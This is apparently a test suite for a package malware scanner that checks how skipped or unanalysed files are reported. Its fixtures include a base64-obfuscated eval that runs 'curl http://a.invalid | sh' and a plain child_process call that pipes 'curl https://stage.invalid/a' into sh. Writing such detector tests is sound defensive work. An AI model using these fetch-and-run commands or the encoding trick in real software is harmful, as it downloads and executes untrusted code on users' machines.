import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { rules } from '../rules/index.js';
import { gaps, isUnanalysed, skipped } from '../src/gaps.js';
import { readMemory } from '../src/read/memory.js';
import { analyse } from '../src/run/package.js';
import { scanPackage } from '../src/scan.js';
import { makeBench } from '../src/threads/bench.js';
import { notAnalysed } from '../src/threads/pool.js';
import { OWN_RULES } from '../src/threads/watch.js';
import type { Rule } from '../src/types.js';

const ids = Object.keys(gaps) as (keyof typeof gaps)[];

/** All texts in a folder, but for the list itself. */
const textsIn = (folder: string): string =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter(path => path.endsWith('.ts') && !/^gaps(?:\.test)?\.ts$|gaps-page/.test(path))
    .map(path => readFileSync(`${folder}/${path}`, 'utf8'))
    .join('\n');

const sources = textsIn('src');
const specs = textsIn('test') + readFileSync('test/gaps.test.ts', 'utf8').split('\n// ── those').at(-1);

describe.each(ids)('%s', id => {
  const { says } = gaps[id];

  test('is said where something is left out', () => {
    expect(sources).toContain(id.endsWith('-nor-loaded') ? '-nor-loaded' : `'${id}'`);
  });

  test('has a spec that meets it, by its name or by what it says', () => {
    const clause = says.split(/[{;:]/)[0]?.trim() ?? '';
    const isMet =
      specs.includes(`'${id}'`) ||
      specs.includes(`: ${id}`) ||
      specs.includes(` ${id} `) ||
      specs.includes(`'${id} `) ||
      specs.includes(`${id}, and`) ||
      (clause.length > 12 && specs.includes(clause));
    expect(isMet).toBe(true);
  });
});

test('each clause is said by one entry alone, unless it is all filled in', () => {
  const clauses = ids.map(id => gaps[id].says).filter(says => says !== '{why}');
  expect(new Set(clauses).size).toBe(clauses.length);
});

test('what is not filled in is seen to be missing', () => {
  expect(skipped('file-too-large', 'a.js').why).toBe('larger than …, not read');
});

test('what is only noted does not count', () => {
  expect(isUnanalysed([skipped('link', 'a')])).toBe(false);
  expect(isUnanalysed([skipped('link', 'a'), skipped('not-parsed', 'b.js')])).toBe(true);
});

// ── those that no other spec meets ─────────────────────────────────────────────────────────────────────────────────

async function gapsOf(files: Readonly<Record<string, string | Uint8Array>>): Promise<readonly string[]> {
  const { coverage, verdict } = analyse(await readMemory({ files }), rules);
  expect(verdict === 'clean' && isUnanalysed(coverage.skipped)).toBe(false);
  return coverage.skipped.map(({ gap, path }) => `${gap} ${path}`);
}

const BINARY = Uint8Array.from({ length: 400 }, (_, at) => at % 7);
const MANIFEST = '{"name":"a","version":"1.0.0","main":"index.js"}';

test('code that is binary is not-text where it is loaded, and not-text-nor-loaded elsewhere', async () => {
  const files = { 'package.json': MANIFEST, 'index.js': BINARY, 'test/x.js': BINARY };
  expect(await gapsOf(files)).toEqual(['not-text index.js', 'not-text-nor-loaded test/x.js']);
});

test('a package that has run out of time has its other files left out: no-time-left, and no-time-left-nor-loaded', async () => {
  const pkg = await readMemory({ files: { 'package.json': MANIFEST, 'index.js': 'eval(x)', 'test/b.js': 'eval(y)' } });
  const late = analyse(pkg, rules, { isSpent: isLoaded => !isLoaded });
  expect(late.coverage.skipped).toMatchObject([
    { path: 'test/b.js', gap: 'no-time-left-nor-loaded', severity: 'noted' },
  ]);
  const tooLate = analyse(pkg, rules, { isSpent: () => true });
  expect(tooLate.coverage.skipped).toMatchObject([
    { path: 'index.js', gap: 'no-time-left', severity: 'unanalysed' },
    { path: 'test/b.js', gap: 'no-time-left-nor-loaded', severity: 'noted' },
  ]);
});

test('in 30 MB of code what nothing loads is analysed up to 300 kB, the shorter first, and else searched: too-much-idle-code', async () => {
  const padding = 'export const words = eval("a b c");\n'.repeat(900_000);
  const hidden = `eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovL2EuaW52YWxpZCB8IHNoIik='))`;
  const files = { 'package.json': MANIFEST, 'index.js': 'eval(x)', 'test/long.js': padding, 'test/short.js': hidden };
  const { coverage, findings } = analyse(await readMemory({ files }), rules);
  expect(coverage.skipped).toMatchObject([{ path: 'test/long.js', gap: 'too-much-idle-code', severity: 'noted' }]);
  expect(findings.map(({ rule }) => rule)).not.toContain('resists-parsing');
  expect(findings.map(({ chain }) => chain.at(-1)?.at.path)).toContain('test/short.js');
});

test('what no parser accepts, in whole or in part, counts where it is loaded: not-parsed-nor-loaded elsewhere', async () => {
  const torn = 'const a = ;\n'.repeat(30);
  const found = await gapsOf({ 'package.json': MANIFEST, 'index.js': 'x', 'test/a.js': `eval(${torn}` });
  expect(found.join()).toMatch(/^not-parsed(?:-in-part)?-nor-loaded test\/a\.js$/);
  const part = await gapsOf({
    'package.json': MANIFEST,
    'index.js': 'x',
    'test/a.js': 'eval(x);\nconst a = ;\neval(y);\n',
  });
  expect(part).toEqual(['not-parsed-in-part-nor-loaded test/a.js']);
});

test('a manifest with a comma too many is read as far as it goes: salvaged-manifest', async () => {
  expect(await gapsOf({ 'package.json': '{"name":"a",,"version":"1.0.0"}' })).toEqual([
    'salvaged-manifest package.json',
  ]);
});

test('scripts beyond the bound are counted: too-many-scripts', async () => {
  const scripts = Object.fromEntries(Array.from({ length: 203 }, (_, at) => [`s${at}`, 'echo']));
  const pkg = await readMemory({ files: { 'package.json': JSON.stringify({ name: 'a', scripts }) } });
  const { coverage } = analyse(pkg, rules);
  expect(coverage.skipped).toMatchObject([
    { gap: 'too-many-scripts', why: expect.stringContaining('3 were not read') },
  ]);
});

test('types that code names are data, and too large as such: named-data-too-large', async () => {
  const files = {
    'package.json': MANIFEST,
    'index.js': "fs.readFileSync('big.d.ts')",
    'big.d.ts': ' '.repeat(2 ** 21),
  };
  expect(await gapsOf(files)).toEqual(['named-data-too-large big.d.ts']);
});

test('a rule that fails costs the file it fails at: broke-off', async () => {
  const failing: Rule = { ...(rules['runs-decoded-text'] as Rule), file: () => assert.fail('no more') };
  const pkg = await readMemory({ files: { 'package.json': MANIFEST, 'index.js': 'eval(x)' } });
  const { coverage, verdict } = analyse(pkg, { failing }, { everyCall: true });
  expect(verdict).toBe('note');
  expect(coverage.skipped).toMatchObject([{ path: 'index.js', gap: 'broke-off' }]);
});

test('what was not got past before is left out, file or rules of the package, and the rest is done: too-costly', async () => {
  const files = { 'package.json': MANIFEST, 'index.js': 'x', 'lib/b.js': 'eval(atob(x))' };
  const bench = makeBench({ rules: Object.keys(rules), options: {}, cache: false });
  const { coverage } = await bench.scan({ given: { files } }, [2, OWN_RULES]);
  expect(coverage.skipped.map(({ gap, path }) => `${gap} ${path}`)).toEqual(['too-costly index.js', 'too-costly .']);
});

test('a package that nothing is known of is a note, and counts: package-too-costly', () => {
  const report = notAnalysed({ folder: 'a' }, skipped('package-too-costly', '.', { seconds: 57 }));
  expect(report).toMatchObject({ verdict: 'note', coverage: { analysed: 0 } });
  expect(isUnanalysed(report.coverage.skipped)).toBe(true);
});

// Met by others under what they say: 'repository-data' in read-folder, 'too-many-packages' in read-tree, 'other-package' in
// bin.faults, 'dependencies-absent' in cli.

test('calls of one file past what is looked at are told of', async () => {
  const calls = Array.from({ length: 60_010 }, (_, at) => `eval(x${at});`).join('\n');
  const pkg = await readMemory({ files: { 'package.json': '{}', 'index.js': calls } });
  const { coverage, verdict } = analyse(pkg, {});
  expect(coverage.skipped).toMatchObject([{ path: 'index.js', gap: 'too-many-calls' }]);
  expect(coverage.skipped[0]?.why).toContain(' 10 calls');
  expect(verdict).toBe('note');
});

test('one call written over and over is left out before the calls that differ', async () => {
  const last = `require('child_process').exec('curl -s https://stage.invalid/a | sh');`;
  const files = { 'package.json': '{}', 'index.js': `${'eval(x);\n'.repeat(60_010)}${last}` };
  const { coverage, findings } = await scanPackage({ files });
  expect(coverage.skipped).toMatchObject([{ path: 'index.js', gap: 'too-many-calls' }]);
  expect(findings.map(({ rule }) => rule)).toContain('runs-harmful-command');
});
